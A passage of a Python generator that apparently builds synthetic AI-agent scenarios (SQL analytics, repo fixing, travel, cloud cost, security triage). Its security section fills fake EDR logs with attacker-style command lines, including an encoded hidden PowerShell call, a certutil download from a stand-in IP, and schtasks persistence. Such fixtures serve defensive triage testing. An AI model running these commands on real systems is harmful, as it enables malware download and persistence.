                                                                                      "columns": c[:k]}))
    hist = [{"query_id": f"q_{_hex(rng, 10)}", "user": _email(_person(rng), _domain(org)),
             "ran_at": _iso(t0 - timedelta(days=rng.randrange(1, 40))), "bytes_processed": rng.randrange(10 ** 8, 10 ** 11),
             "snippet": pick(rng, ["SELECT DATE_TRUNC(signup_ts, WEEK) AS cohort, COUNT(*) FROM users GROUP BY 1",
                                   "SELECT region, SUM(gross_amount - refund_amount) FROM orders WHERE status = 'paid'",
                                   "WITH w AS (SELECT user_id, DATE_TRUNC(event_ts, WEEK) wk FROM events) SELECT ...",
                                   "SELECT currency, AVG(eur_per_unit) FROM fx_rates GROUP BY currency"])}
            for _ in range(rng.randrange(6, 11))]
    steps.append(Step("Looking at how the team usually queries this, to stay consistent with existing metrics.",
                      "get_query_history", {"table": "users" if variant == 0 else "orders", "limit": 15},
                      len(hist), lambda k, h=hist: {"queries": h[:k]}))
    chans = ["organic", "paid_search", "paid_social", "referral", "partner", "email"]
    for q in range(14):
        qid = f"q_{_hex(rng, 10)}"
        if variant == 0:
            ch = chans[q % len(chans)]
            sql = (f"WITH cohorts AS (SELECT user_id, DATE_TRUNC(signup_ts, WEEK(MONDAY)) AS cohort_week "
                   f"FROM {ds}.users WHERE NOT is_test AND acquisition_channel = '{ch}' AND signup_ts >= "
                   f"'{(t0 - timedelta(weeks=12)).date()}'), activity AS (SELECT DISTINCT user_id, "
                   f"DATE_TRUNC(event_ts, WEEK(MONDAY)) AS active_week FROM {ds}.events) SELECT c.cohort_week, "
                   f"DATE_DIFF(a.active_week, c.cohort_week, WEEK) AS week_n, COUNT(DISTINCT a.user_id) AS active "
                   f"FROM cohorts c JOIN activity a USING (user_id) GROUP BY 1, 2 ORDER BY 1, 2")
            rows = []
            for cw in range(rng.randrange(6, 10)):
                size = rng.randrange(800, 6000)
                for wn in range(0, 4):
                    rows.append({"cohort_week": str((t0 - timedelta(weeks=12 - cw)).date()), "week_n": wn,
                                 "active": int(size * (1.0 if wn == 0 else rng.uniform(0.18, 0.55) ** (wn ** 0.5)))})
            thought = f"Computing the cohort grid for the {ch} channel."
        else:
            reg = SQL_REGIONS[q % len(SQL_REGIONS)]
            sql = (f"SELECT DATE(created_ts) AS day, currency, COUNT(*) AS orders, SUM(gross_amount) AS gross, "
                   f"SUM(refund_amount) AS refunds, SUM(discount_amount) AS discounts FROM {ds}.orders WHERE region "
                   f"= '{reg}' AND created_ts >= '{(t0 - timedelta(days=14)).date()}' GROUP BY 1, 2 ORDER BY 1, 2")
            rows = []
            for d in range(rng.randrange(10, 15)):
                for cur in rng.sample(["EUR", "GBP", "SEK", "USD", "PLN", "BRL", "JPY"], 2):
                    g = rng.uniform(8000, 90000)
                    rows.append({"day": str((t0 - timedelta(days=14 - d)).date()), "currency": cur,
                                 "orders": rng.randrange(40, 900), "gross": round(g, 2),
                                 "refunds": round(g * rng.uniform(0.01, 0.3 if d > 8 else 0.06), 2),
                                 "discounts": round(g * rng.uniform(0.02, 0.1), 2)})
            thought = f"Breaking {reg} down by day and currency to separate volume, refunds and FX."
        steps.append(Step(thought, "run_sql", {"query": sql, "limit": 500}, len(rows),
                          lambda k, r=rows, qid=qid: {"query_id": qid, "rows": r[:k], "row_count": len(r),
                                                      "bytes_processed": 8_412_337_152, "cache_hit": False}))
    final = pick(rng, [
        "Given these results, what should happen next? Write a brief plan (numbered, at most five items) and then "
        "the next tool call.",
        "Do the numbers look right to you? Point out anything suspicious in one short paragraph, then continue "
        "with the next tool call.",
    ])
    return Scenario("analytics-sql", org, pick(rng, ["a data analyst agent", "the analytics copilot"]),
                    tools if variant == 0 else [tools[k] for k in (2, 0, 1, 3, 4, 5)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 6), pretty=variant == 1)


# ------------------------------------------------------------------------------------------ family: repo agent

PY_SNIPPETS = [
    ["def paginate(query, page: int, per_page: int = 50):",
     "    if page < 1:",
     "        raise ValueError(\"page starts at 1\")",
     "    total = query.count()",
     "    items = query.offset((page - 1) * per_page).limit(per_page).all()",
     "    return Page(items=items, total=total, page=page, per_page=per_page)"],
    ["class Settings(BaseSettings):",
     "    model_config = SettingsConfigDict(env_prefix=\"APP_\", env_file=\".env\")",
     "    database_url: str",
     "    redis_url: str = \"redis://localhost:6379/0\"",
     "    request_timeout_s: float = 10.0",
     "    feature_flags: dict[str, bool] = {}"],
    ["@router.get(\"/v1/{resource}\", response_model=list[{model}Out])",
     "async def list_{resource}(db: Session = Depends(get_db), limit: int = 100):",
     "    rows = db.execute(select({model}).order_by({model}.id).limit(limit)).scalars().all()",
     "    return [{model}Out.model_validate(r) for r in rows]"],
    ["def test_list_{resource}_returns_items(client, seed_{resource}):",
     "    resp = client.get(\"/v1/{resource}?limit=5\")",
     "    assert resp.status_code == 200",
     "    body = resp.json()",
     "    assert len(body) == 5",
     "    assert body[0][\"id\"] < body[1][\"id\"]"],
    ["def to_dict(self) -> dict:",
     "    data = self.dict(exclude_none=True)",
     "    data[\"created_at\"] = self.created_at.isoformat()",
     "    return data"],
    ["async def fetch_{resource}(client: httpx.AsyncClient, ids: list[str]) -> list[dict]:",
     "    out = []",
     "    for chunk in batched(ids, 100):",
     "        r = await client.get(\"/internal/{resource}\", params={{\"ids\": \",\".join(chunk)}})",
     "        r.raise_for_status()",
     "        out.extend(r.json()[\"items\"])",
     "    return out"],
]
RESOURCES = [("invoices", "Invoice"), ("projects", "Project"), ("shipments", "Shipment"), ("members", "Member"),
             ("devices", "Device"), ("tickets", "Ticket"), ("playlists", "Playlist"), ("courses", "Course")]


def fam_repo(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    repo = pick(rng, ["billing-service", "fleet-api", "member-portal", "course-catalog", "ops-dashboard"])
    res, model = pick(rng, RESOURCES)
    if variant == 0:
        task = (f"CI on main of `{repo}` has been red since the dependency bump this morning (pydantic 1.10 -> 2.x "
                f"and fastapi upgrade). Find out which tests fail and why, fix the code (not the tests, unless a "
                f"test is wrong), and make sure the whole suite passes locally before you stop.")
    else:
        task = (f"In `{repo}`, add cursor-based pagination to `GET /v1/{res}` (query params `limit` and `cursor`, "
                f"response field `next_cursor`), keep the old `page` parameter working for one release with a "
                f"deprecation header, and add tests. Follow the conventions already used in the codebase.")
    tools = [
        tool("list_directory", "List files under a path (relative to the repository root).",
             {"path": s("Directory."), "depth": i("Recursion depth.", minimum=1, maximum=4)}, ["path"]),
        tool("read_file", "Read a file, optionally a line range. Lines are numbered.",
             {"path": s("File path."), "start_line": i("First line (1-based)."), "end_line": i("Last line.")},
             ["path"]),
        tool("search_code", "Search the repository with a regular expression (ripgrep).",
             {"pattern": s("Regex."), "glob": s("Path glob, e.g. src/**/*.py."), "max_results": i("Cap.")},
             ["pattern"]),
        tool("run_command", "Run a shell command in the repository sandbox (no network).",
             {"command": s("Command line."), "timeout_s": i("Timeout in seconds.", maximum=900)}, ["command"]),
        tool("git_log", "Commit history for a path.", {"path": s("Path."), "limit": i("Max commits.")}, []),
        tool("apply_patch", "Apply a unified diff to the working tree.",
             {"patch": s("Unified diff text."), "message": s("What the change does.")}, ["patch"]),
    ]
    steps: list[Step] = []
    out = ["============================= test session starts ==============================",
           f"platform linux -- Python 3.12.4, pytest-8.3.2, pluggy-1.5.0", f"rootdir: /workspace/{repo}",
           "configfile: pyproject.toml", "plugins: anyio-4.4.0, cov-5.0.0", f"collected {rng.randrange(180, 420)} items",
           ""]
    for j in range(rng.randrange(14, 24)):
        r2, m2 = pick(rng, RESOURCES)
        err = pick(rng, [f"AttributeError: '{m2}Out' object has no attribute 'dict'",
                         "pydantic.errors.PydanticUserError: `const` is removed, use `Literal` instead",
                         f"TypeError: {m2}Out.__init__() takes 1 positional argument but 2 were given",
                         "AssertionError: assert 422 == 200",
                         "ImportError: cannot import name 'BaseSettings' from 'pydantic'"] if variant == 0 else
                   ["KeyError: 'next_cursor'", "assert [] == [{'id': 1, 'name': 'a'}]",
                    "AssertionError: assert 'Deprecation' in Headers({'content-type': 'application/json'})",
                    "AssertionError: assert 100 == 5", "assert resp.status_code == 200 (got 422)"])
        out.append(f"FAILED tests/api/test_{r2}.py::test_{pick(rng, ['list', 'create', 'update', 'export'])}_"
                   f"{r2}_{pick(rng, ['ok', 'paginates', 'validates', 'filters'])} - {err}")
    out.append(f"========= {len(out) - 7} failed, {rng.randrange(150, 380)} passed, 3 warnings in "
               f"{rng.uniform(20, 80):.2f}s =========")
    steps.append(Step("Running the suite first to see the actual failures.", "run_command",
                      {"command": "python -m pytest -q -x --no-header -rf" if variant else "python -m pytest -q -rf",
                       "timeout_s": 600}, len(out), lambda k, o=out: {"exit_code": 1, "stdout": "\n".join(o[:k]),
                                                                     "stderr": ""}))
    files = []
    for d in ["src/app/api", "src/app/models", "src/app/schemas", "src/app/services", "tests/api", "tests/unit"]:
        for r2, _ in rng.sample(RESOURCES, rng.randrange(3, 6)):
            name = f"test_{r2}.py" if d.startswith("tests") else f"{r2}.py"
            files.append({"path": f"{d}/{name}", "size": rng.randrange(400, 9000)})
    files += [{"path": p, "size": rng.randrange(200, 4000)} for p in ["pyproject.toml", "src/app/main.py",
                                                                      "src/app/deps.py", "src/app/pagination.py",
                                                                      "tests/conftest.py"]]
    steps.append(Step("Getting the layout of the project.", "list_directory", {"path": ".", "depth": 3},
                      len(files), lambda k, f=files: {"entries": f[:k]}))
    for q in range(16):
        r2, m2 = RESOURCES[q % len(RESOURCES)]
        snip = PY_SNIPPETS[q % len(PY_SNIPPETS)]
        path = f"src/app/{pick(rng, ['api', 'schemas', 'services'])}/{r2}.py"
        start = rng.randrange(10, 180)
        lines = []
        for rep in range(rng.randrange(3, 6)):
            sn = PY_SNIPPETS[(q + rep) % len(PY_SNIPPETS)]
            lines += [ln.replace("{resource}", r2).replace("{model}", m2).replace("{{", "{").replace("}}", "}")
                      for ln in sn] + [""]
        numbered = [f"{start + j:>4}  {ln}" for j, ln in enumerate(lines)]
        if q % 2 == 0:
            steps.append(Step(f"Reading {path} where the failing code path lives.", "read_file",
                              {"path": path, "start_line": start, "end_line": start + len(lines) - 1},
                              len(numbered), lambda k, nb=numbered, p=path: {"path": p, "content": "\n".join(nb[:k])}))
        else:
            pat, lit = pick(rng, [(r"\.dict\(", ".dict("), ("BaseSettings", "BaseSettings"), ("page: int", "page"),
                                  (r"Depends\(get_db\)", "Depends(get_db)"), ("model_validate", "model_validate"),
                                  (r"offset\(", "offset("), (r"\.limit\(", ".limit("), ("raise_for_status", "raise_for"),
                                  (r"status_code == \d+", "status_code")])
            hits = []
            for rep in range(rng.randrange(3, 7)):
                r3 = pick(rng, RESOURCES)
                for sn in PY_SNIPPETS:
                    for ln in sn:
                        if lit in ln:
                            text = ln.replace("{resource}", r3[0]).replace("{model}", r3[1]).replace("{{", "{")
                            hits.append({"path": f"src/app/{pick(rng, ['api', 'schemas', 'services'])}/{r3[0]}.py",
                                         "line": rng.randrange(5, 300), "text": text.strip().replace("}}", "}")})
            if not hits:
                hits = [{"path": path, "line": start, "text": lines[0].strip()}]
            steps.append(Step(f"Searching for other uses of `{pat}` that the upgrade may have broken.",
                              "search_code", {"pattern": pat, "glob": "src/**/*.py", "max_results": 50}, len(hits),
                              lambda k, h=hits: {"matches": h[:k], "truncated": False}))
    commits = [{"sha": _hex(rng, 12), "author": _person(rng), "date": _iso(_start(rng)),
                "subject": pick(rng, ["bump pydantic to 2.8", "add export endpoint", "fix flaky test", "ruff format",
                                      "settings: read from env", "pin fastapi", "pagination helper"])}
               for _ in range(rng.randrange(8, 14))]
    steps.insert(3, Step("Checking the recent history of the pagination helper.", "git_log",
                         {"path": "src/app/pagination.py", "limit": 20}, len(commits),
                         lambda k, c=commits: {"commits": c[:k]}))
    final = pick(rng, [
        "What's next? Explain the root cause you suspect in two or three sentences, list the remaining steps, and "
        "issue the next tool call.",
        "Plan the change before touching code: give a short numbered plan, then make the next tool call "
        "(one only).",
    ])
    return Scenario("repo-agent", org, pick(rng, ["an autonomous coding agent", "a software engineering agent"]),
                    tools if variant else [tools[k] for k in (3, 2, 1, 0, 5, 4)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 5), pretty=variant == 0)


# -------------------------------------------------------------------------------------------- family: travel

def fam_travel(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    trav = _person(rng)
    home, dest = rng.sample(CITIES, 2)
    d0 = _start(rng).replace(hour=0, minute=0) + timedelta(days=20)
    if variant == 0:
        task = (f"Book travel for {trav} to the {pick(rng, ['Data+AI', 'Retail Futures', 'OpenInfra', 'MedTech'])} "
                f"summit in {dest[0]}: arrive by the evening of {d0.date()}, the conference runs three days, return "
                f"right after. Company policy: economy for flights under 6 hours, hotel at most 260 EUR/night within "
                f"2 km of the venue. Check the weather so they pack properly.")
    else:
        task = (f"{trav}'s flight from {home[0]} to {dest[0]} on {d0.date()} was cancelled by the airline an hour "
                f"ago. Rebook the earliest reasonable alternative (they must be there by 09:00 the next day), adjust "
                f"the hotel if the arrival date changes, and tell them what changed.")
    tools = [
        tool("get_traveler_profile", "Traveler preferences, loyalty programmes and documents on file.",
             {"traveler_id": s("Traveler id or email.")}, ["traveler_id"]),
        tool("search_flights", "Search flight offers.",
             {"origin": s("IATA code."), "destination": s("IATA code."), "date": s("YYYY-MM-DD."),
              "cabin": s("Cabin.", enum=["economy", "premium_economy", "business"]),
              "max_stops": i("Max connections.", maximum=2)}, ["origin", "destination", "date"]),
        tool("get_fare_rules", "Change and refund rules of a fare.", {"offer_id": s("Offer id.")}, ["offer_id"]),
        tool("search_hotels", "Hotels with availability and nightly rate.",
             {"city": s("City."), "check_in": s("YYYY-MM-DD."), "check_out": s("YYYY-MM-DD."),
              "near": s("Landmark or address."), "max_rate_eur": n_("Max nightly rate.")},
             ["city", "check_in", "check_out"]),
        tool("get_weather_forecast", "Daily forecast.", {"city": s("City."), "days": i("Days.", maximum=10)},
             ["city"]),
        tool("create_booking", "Book an offer for a traveler (charges the company card).",
             {"offer_id": s("Flight or hotel offer id."), "traveler_id": s("Traveler."), "notes": s("Notes.")},
             ["offer_id", "traveler_id"]),
        tool("notify_traveler", "Send the traveler a message.",
             {"traveler_id": s("Traveler."), "channel": s("Channel.", enum=["email", "sms"]), "text": s("Text.")},
             ["traveler_id", "channel", "text"]),
    ]
    steps: list[Step] = []
    tid = _email(trav, _domain(org))
    prefs = [{"key": k, "value": v} for k, v in [("seat", pick(rng, ["aisle", "window"])),
                                                   ("meal", pick(rng, ["vegetarian", "none", "halal"])),
                                                   ("loyalty", f"{pick(rng, ['Miles&More', 'Flying Blue', 'Avios'])} "
                                                               f"{rng.randrange(10 ** 8, 10 ** 9)}"),
                                                   ("passport_expiry", f"{rng.randrange(2027, 2034)}-0{rng.randrange(1, 9)}-15"),
                                                   ("hotel_chain", pick(rng, ["any", "Marriott", "Accor", "Hilton"]))]]
    steps.append(Step("Loading the traveler's preferences first.", "get_traveler_profile", {"traveler_id": tid},
                      len(prefs), lambda k, p=prefs: {"traveler_id": tid, "name": trav, "home_airport": home[1],
                                                      "preferences": p[:k]}))
    airlines = ["TP", "LH", "KL", "AF", "BA", "IB", "NH", "AC", "SQ", "EK", "LX", "SK"]
    for day in range(6):
        date = d0 + timedelta(days=day - 1 if variant == 0 else day // 2)
        o, dst = (home[1], dest[1]) if day % 3 != 2 else (dest[1], home[1])
        offers = []
        for _ in range(rng.randrange(6, 11)):
            dep = date + timedelta(hours=rng.randrange(6, 21), minutes=rng.choice([0, 15, 30, 45]))
            segs, t = [], dep
            for _st in range(rng.randrange(1, 3)):
                dur = timedelta(minutes=rng.randrange(70, 600))
                via = pick(rng, CITIES)[1]
                segs.append({"flight": f"{pick(rng, airlines)}{rng.randrange(100, 2999)}", "from": o if not segs else
                             segs[-1]["to"], "to": via, "dep": _iso(t), "arr": _iso(t + dur)})
                t += dur + timedelta(minutes=rng.randrange(50, 180))
            segs[-1]["to"] = dst
            offers.append({"offer_id": f"off_{_hex(rng, 10)}", "segments": segs, "stops": len(segs) - 1,
                           "cabin": "economy", "price": {"amount": round(rng.uniform(90, 1400), 2), "currency": "EUR"},
                           "refundable": rng.random() < 0.3, "baggage": pick(rng, ["1x23kg", "cabin only", "2x23kg"])})
        steps.append(Step(f"Searching {o} to {dst} on {date.date()}.", "search_flights",
                          {"origin": o, "destination": dst, "date": str(date.date()), "cabin": "economy",
                           "max_stops": 1}, len(offers), lambda k, of=offers: {"offers": of[:k]}))
        if day % 2 == 0:
            rules = [pick(rng, ["Changes permitted before departure for a fee of 75 EUR plus fare difference.",
                                "No refund after departure; taxes refundable on request.",
                                "Name changes not permitted.", "Same-day change allowed at the airport for 50 EUR.",
                                "Cancellation up to 24h before departure: refund minus 120 EUR.",
                                "No-show: fare forfeited.", "Upgrade with miles permitted.",
                                "Rebooking onto partner airlines permitted in case of disruption."])
                     for _ in range(rng.randrange(5, 9))]
            steps.append(Step("Checking the fare rules of the most suitable offer before committing.",
                              "get_fare_rules", {"offer_id": offers[0]["offer_id"]}, len(rules),
                              lambda k, r=rules, oid=offers[0]["offer_id"]: {"offer_id": oid, "rules": r[:k]}))
    hotels = [{"hotel_id": f"htl_{_hex(rng, 8)}", "name": f"{pick(rng, ['Hotel', 'Residence', 'Inn', 'Suites'])} "
               f"{pick(rng, LAST)}", "distance_km": round(rng.uniform(0.2, 6), 1),
               "rate_eur": round(rng.uniform(110, 420), 2), "rating": round(rng.uniform(3.4, 4.9), 1),
               "free_cancellation": rng.random() < 0.6} for _ in range(rng.randrange(10, 16))]
    steps.insert(3, Step(f"Looking for hotels near the venue in {dest[0]}.", "search_hotels",
                         {"city": dest[0], "check_in": str(d0.date()), "check_out": str((d0 + timedelta(days=3)).date()),
                          "near": "conference centre", "max_rate_eur": 260}, len(hotels),
                         lambda k, h=hotels: {"hotels": h[:k]}))
    fc = [{"date": str((d0 + timedelta(days=j)).date()), "high_c": rng.randrange(4, 31), "low_c": rng.randrange(-3, 18),
           "precip_mm": round(rng.uniform(0, 14), 1), "summary": pick(rng, ["sunny", "showers", "overcast", "windy",
                                                                              "thunderstorms", "light rain"])}
          for j in range(7)]
    steps.append(Step(f"Checking the forecast for {dest[0]}.", "get_weather_forecast", {"city": dest[0], "days": 7},
                      len(fc), lambda k, f=fc: {"city": dest[0], "daily": f[:k]}))
    final = pick(rng, [
        "Those are all the results so far. Which options would you choose and why? Give a short plan, then make the "
        "next tool call.",
        "Summarise the best itinerary you can see in a few lines, list what is still missing, and issue the next "
        "tool call.",
    ])
    return Scenario("travel", org, pick(rng, ["a corporate travel assistant", "the travel desk agent"]),
                    tools if variant == 0 else [tools[k] for k in (1, 2, 3, 0, 5, 6, 4)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 5), pretty=variant == 1)


# ---------------------------------------------------------------------------------------- family: cloud cost

def fam_cloud(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    t0 = _start(rng)
    if variant == 0:
        task = (f"Cloud spend at {org} rose {rng.randrange(18, 45)}% last month. Find idle or oversized compute across "
                f"our accounts, quantify the savings, and stop anything that is clearly unused in non-production "
                f"(tag owner must be notified first). Do not touch production without asking.")
    else:
        task = ("Our tagging policy requires `owner`, `cost-center` and `environment` on every resource. Audit the "
                "accounts, report compliance per account, and fix tags where the owner can be inferred "
                "unambiguously from existing data.")
    tools = [
        tool("list_accounts", "Cloud accounts in the organisation.", {}, []),
        tool("get_cost_breakdown", "Daily or monthly cost grouped by a dimension.",
             {"account_id": s("Account id."), "group_by": s("Dimension.", enum=["service", "region", "tag:owner",
                                                                               "usage_type"]),
              "start": s("YYYY-MM-DD."), "end": s("YYYY-MM-DD."), "granularity": s("Granularity.",
                                                                                  enum=["daily", "monthly"])},
             ["account_id", "group_by", "start", "end"]),
        tool("list_instances", "Compute instances with type, state and tags.",
             {"account_id": s("Account id."), "region": s("Region."), "state": s("State.", enum=["running",
                                                                                                "stopped", "any"])},
             ["account_id"]),
        tool("get_utilization", "CPU/memory/network utilisation statistics of a resource.",
             {"resource_id": s("Resource id."), "metric": s("Metric.", enum=["cpu", "memory", "network_in",
                                                                            "network_out"]),
              "days": i("Lookback days.", maximum=30)}, ["resource_id", "metric"]),
        tool("list_untagged_resources", "Resources missing any of the required tags.",
             {"account_id": s("Account id."), "required_tags": arr("Tag keys.", s("Key."))},
             ["account_id", "required_tags"]),
        tool("apply_tags", "Add or overwrite tags on resources.",
             {"resource_ids": arr("Resource ids.", s("Id.")), "tags": obj("Tags.", {})}, ["resource_ids", "tags"]),
        tool("stop_instances", "Stop instances (non-production only).",
             {"instance_ids": arr("Instance ids.", s("Id.")), "reason": s("Reason.")}, ["instance_ids", "reason"]),
        tool("notify_owner", "Message a resource owner.",
             {"owner": s("Owner email."), "subject": s("Subject."), "body": s("Body.")}, ["owner", "subject", "body"]),
    ]
    steps: list[Step] = []
    accts = [{"account_id": f"{rng.randrange(10 ** 11, 10 ** 12)}", "name": f"{org.split()[0].lower()}-{e}",
              "environment": e.split("-")[0]} for e in ["prod", "prod-data", "staging", "dev", "sandbox", "ml-research",
                                                         "shared-services"]]
    steps.append(Step("Listing the accounts first.", "list_accounts", {}, len(accts),
                      lambda k, a=accts: {"accounts": a[:k]}))
    types = ["m6i.2xlarge", "c6g.4xlarge", "r6i.8xlarge", "g5.12xlarge", "t3.large", "m7g.xlarge", "p4d.24xlarge",
             "c7i.large", "r7g.2xlarge"]
    owners = [_email(_person(rng), _domain(org)) for _ in range(8)]
    for a in accts:
        rows = []
        for d in range(rng.randrange(8, 14)):
            for svc in rng.sample(["EC2", "EBS", "S3", "RDS", "NAT Gateway", "EKS", "CloudWatch", "Data Transfer"], 3):
                rows.append({"date": str((t0 - timedelta(days=14 - d)).date()), "service": svc,
                             "cost_usd": round(rng.uniform(20, 4000), 2)})
        steps.append(Step(f"Cost by service for {a['name']} over the last two weeks.", "get_cost_breakdown",
                          {"account_id": a["account_id"], "group_by": "service",
                           "start": str((t0 - timedelta(days=14)).date()), "end": str(t0.date()),
                           "granularity": "daily"}, len(rows),
                          lambda k, r=rows, a=a: {"account_id": a["account_id"], "currency": "USD", "rows": r[:k]}))
        inst = []
        for _ in range(rng.randrange(8, 14)):
            tags = {"environment": a["environment"]}
            if rng.random() < 0.7:
                tags["owner"] = pick(rng, owners)
            if rng.random() < 0.5:
                tags["cost-center"] = f"cc-{rng.randrange(100, 999)}"
            inst.append({"instance_id": f"i-{_hex(rng, 17)}", "type": pick(rng, types),
                         "region": pick(rng, REGIONS), "state": pick(rng, ["running", "running", "stopped"]),
                         "launched": _iso(t0 - timedelta(days=rng.randrange(1, 700))), "tags": tags})
        steps.append(Step(f"Listing instances in {a['name']}.", "list_instances",
                          {"account_id": a["account_id"], "state": "any"}, len(inst),
                          lambda k, x=inst: {"instances": x[:k]}))
        if variant == 0:
            tgt = inst[0]
            pts = [{"day": str((t0 - timedelta(days=14 - d)).date()), "avg": round(rng.uniform(0.5, 9), 2),
                    "p95": round(rng.uniform(2, 25), 2), "max": round(rng.uniform(5, 60), 2)} for d in range(14)]
            steps.append(Step(f"Utilisation of {tgt['instance_id']} ({tgt['type']}) looks worth checking.",
                              "get_utilization", {"resource_id": tgt["instance_id"], "metric": "cpu", "days": 14},
                              len(pts), lambda k, p=pts, t=tgt: {"resource_id": t["instance_id"], "metric": "cpu",
                                                                 "unit": "percent", "daily": p[:k]}))
        else:
            un = [{"resource_id": f"{pick(rng, ['i', 'vol', 'snap', 'db'])}-{_hex(rng, 12)}",
                   "type": pick(rng, ["instance", "volume", "snapshot", "rds"]),
                   "missing": rng.sample(["owner", "cost-center", "environment"], rng.randrange(1, 4)),
                   "created_by": pick(rng, owners + ["terraform-ci", "unknown"])} for _ in range(rng.randrange(8, 15))]
            steps.append(Step(f"Finding resources in {a['name']} that miss required tags.", "list_untagged_resources",
                              {"account_id": a["account_id"], "required_tags": ["owner", "cost-center",
                                                                                "environment"]}, len(un),
                              lambda k, u=un: {"resources": u[:k], "total": len(u)}))
    final = pick(rng, [
        "Based on all of this, what do you recommend and what will you do next? Give a short numbered plan with "
        "estimated monthly savings, then make the next tool call.",
        "Summarise the findings per account in a few lines, then continue with the next tool call.",
    ])
    return Scenario("cloud-cost", org, pick(rng, ["a FinOps agent", "the cloud cost assistant"]),
                    tools if variant == 0 else [tools[k] for k in (0, 4, 2, 5, 1, 3, 7, 6)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 6), pretty=variant == 0)


# ------------------------------------------------------------------------------------------ family: security

def fam_security(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    dom = _domain(org)
    user = _person(rng)
    upn = _email(user, dom)
    host = f"{pick(rng, ['lt', 'wk', 'srv'])}-{pick(rng, ['fin', 'eng', 'ops', 'hr'])}-{rng.randrange(100, 999)}"
    t0 = _start(rng)
    if variant == 0:
        task = (f"Identity protection raised a high-risk alert for {upn}: sign-ins from two countries within 40 "
                f"minutes and an MFA method added afterwards. Triage it: decide whether the account is compromised, "
                f"contain it if so, and document the case.")
    else:
        task = (f"EDR flagged a suspicious PowerShell chain on {host} ({user}'s laptop) at {_iso(t0)}. Determine what "
                f"ran, whether anything spread or exfiltrated data, and contain the host if needed. Open a case with "
                f"your findings.")
    tools = [
        tool("siem_search", "Search security events (KQL).",
             {"query": s("KQL query."), "start": s("ISO start."), "end": s("ISO end."), "limit": i("Max rows.")},
             ["query", "start", "end"]),
        tool("get_user", "Directory profile, groups and registered MFA methods.", {"upn": s("User principal.")},
             ["upn"]),
        tool("list_sign_ins", "Sign-in log entries of a user.", {"upn": s("User principal."), "days": i("Lookback.")},
             ["upn"]),
        tool("get_host", "Endpoint inventory and health.", {"hostname": s("Host name.")}, ["hostname"]),
        tool("list_processes", "Process creation events on a host.",
             {"host_id": s("Host id."), "since": s("ISO time."), "parent": s("Filter by parent image.")},
             ["host_id", "since"]),
        tool("get_file_reputation", "Threat-intel verdict for a file hash.", {"sha256": s("SHA-256.")}, ["sha256"]),
        tool("isolate_host", "Network-isolate an endpoint.", {"host_id": s("Host id."), "reason": s("Reason.")},
             ["host_id", "reason"]),
        tool("revoke_sessions", "Revoke refresh tokens and sign the user out everywhere.", {"upn": s("User.")},
             ["upn"]),
        tool("open_case", "Open an incident case.",
             {"title": s("Title."), "severity": s("Severity.", enum=["low", "medium", "high", "critical"]),
              "summary": s("Findings."), "entities": arr("Users, hosts, IPs.", s("Entity."))},
             ["title", "severity", "summary"]),
    ]
    steps: list[Step] = []
    groups = rng.sample(["Finance-Approvers", "VPN-Users", "All-Staff", "Payroll-Readers", "Eng-Admins",
                         "M365-E5", "Travel", "Board-Portal"], 5)
    mfa = [{"method": m, "added": _iso(t0 - timedelta(days=rng.randrange(0, 400)))}
           for m in ["authenticator_app", "sms", "fido2", "authenticator_app"][:rng.randrange(2, 5)]]
    dept = pick(rng, ["Finance", "Engineering", "Operations", "HR"])
    steps.append(Step(f"Pulling {user}'s directory profile and MFA methods.", "get_user", {"upn": upn},
                      len(groups) + len(mfa), lambda k, g=groups, m=mfa: {
                          "upn": upn, "display_name": user, "department": dept,
                          "groups": g[:min(k, len(g))], "mfa_methods": m[:max(0, k - len(g))]}))
    for chunk in range(5):
        rows = []
        for _ in range(rng.randrange(10, 18)):
            c = pick(rng, CITIES)
            rows.append({"time": _iso(t0 - timedelta(minutes=rng.randrange(0, 60 * 24 * 3))),
                         "ip": f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                         "city": c[0], "app": pick(rng, ["Outlook", "Teams", "SharePoint", "Azure Portal", "VPN",
                                                        "Salesforce"]),
                         "client": pick(rng, ["Chrome 127 / Windows", "Outlook mobile / iOS", "python-requests/2.32",
                                              "Edge 126 / macOS"]),
                         "result": pick(rng, ["success", "success", "failure: invalid password", "MFA required",
                                              "success (MFA satisfied)"]),
                         "risk": pick(rng, ["none", "low", "medium", "high"])})
        rows.sort(key=lambda r: r["time"], reverse=True)
        steps.append(Step("Reviewing sign-ins for impossible travel and odd clients." if chunk == 0 else
                          "Going further back in the sign-in log.", "list_sign_ins", {"upn": upn, "days": 3 + chunk * 3},
                          len(rows), lambda k, r=rows: {"sign_ins": r[:k]}))
        procs = []
        for _ in range(rng.randrange(10, 18)):
            procs.append({"time": _iso(t0 + timedelta(seconds=rng.randrange(-900, 900))),
                          "image": pick(rng, ["powershell.exe", "cmd.exe", "rundll32.exe", "wscript.exe",
                                              "msedge.exe", "certutil.exe", "schtasks.exe", "curl.exe"]),
                          "parent": pick(rng, ["winword.exe", "explorer.exe", "powershell.exe", "outlook.exe"]),
                          "cmdline": pick(rng, ["-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA...",
                                                "/c whoami /groups", "certutil -urlcache -f http://203.0.113.7/a.txt a.txt",
                                                "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon",
                                                "https://login.example-sso.net/", "rundll32 C:\\ProgramData\\x.dll,Start"]),
                          "sha256": _hex(rng, 64), "user": upn})
        steps.append(Step(f"Process activity on {host} around the alert.", "list_processes",
                          {"host_id": f"hst_{_hex(rng, 8)}", "since": _iso(t0 - timedelta(minutes=15 + 10 * chunk))},
                          len(procs), lambda k, p=procs: {"events": p[:k]}))
        ev = [{"time": _iso(t0 + timedelta(seconds=rng.randrange(-3600, 3600))),
               "event": pick(rng, ["MailItemsAccessed", "New-InboxRule", "FileDownloaded", "Add-MailboxPermission",
                                   "UserLoggedIn", "OAuthConsentGranted", "DnsQuery", "ConnectionAllowed"]),
               "detail": pick(rng, ["rule forwards to external address", "1,284 items", "consent: MailSync Pro",
                                    "dst=203.0.113.7:443", "Q=cdn-update-check.net", "src=10.20.4.17"])}
